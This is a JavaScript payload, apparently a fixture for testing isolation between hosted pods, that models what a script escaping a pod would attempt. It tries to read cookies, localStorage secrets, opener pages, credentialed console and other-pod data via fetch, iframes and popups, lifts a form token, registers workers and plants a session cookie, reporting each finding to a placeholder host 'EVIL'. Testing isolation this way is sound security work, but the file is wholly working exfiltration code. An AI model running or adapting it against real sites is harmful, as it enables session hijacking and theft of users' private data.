// What somebody would try who got a script to run out of a pod. Each finding is told to EVIL; the first is that it runs.
(async () => {
  const tell = (what, value) =>
    fetch("EVIL/told?" + new URLSearchParams({ page: "PAGE", what, value }), { mode: "no-cors", keepalive: true });
  try { document.title = "ran"; } catch {}
  await tell("ran", self.origin);
  const attempt = async (what, find) => {
    try {
      const found = await Promise.race([find(), new Promise((resolve) => setTimeout(resolve, 5000))]);
      if (found) await tell(what, String(found));
    } catch {}
  };
  const framed = (url, look) => new Promise((resolve, reject) => {
    const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
    frame.src = url;
    frame.onload = () => { try { resolve(look(frame.contentWindow)); } catch (e) { reject(e); } };
    (document.body || document.documentElement).appendChild(frame);
  });
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.getItem("secret"));
  await attempt("opener", () => opener && opener.document.body.textContent);
  await attempt("console by fetch", async () => (await fetch("CONSOLE/app/data", { credentials: "include" })).text());
  await attempt("form token", async () => /name="token" value="([^"]+)"/.exec(await (await fetch("CONSOLE/app/account/name", { credentials: "include" })).text())?.[1]);
  await attempt("console by frame", () => framed("CONSOLE/app/home", (w) => w.localStorage.getItem("secret")));
  await attempt("console by window", async () => {
    const w = open("CONSOLE/app/home");
    for (let i = 0; i < 40; i++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      const text = w.document.body && w.document.body.textContent;
      if (text) { w.close(); return text; }
    }
  });
  await attempt("other pod by fetch", async () => (await fetch("VICTIM/private", { credentials: "include" })).text());
  await attempt("other pod by frame", () => framed("VICTIM/stand-in", (w) => w.localStorage.getItem("secret")));
  await attempt("worker", async () => (await navigator.serviceWorker.register("worker.js")).scope);
  await attempt("shared worker", () => new Promise((resolve, reject) => {
    const shared = new SharedWorker("worker.js");
    shared.port.onmessage = (e) => resolve(e.data);
    shared.onerror = reject;
  }));
  await attempt("planted cookie", () => {
    document.cookie = "session=planted; path=/; domain=DOMAIN";
    return document.cookie.includes("planted") && "session=planted";
  });
  await tell("done", "");
})();
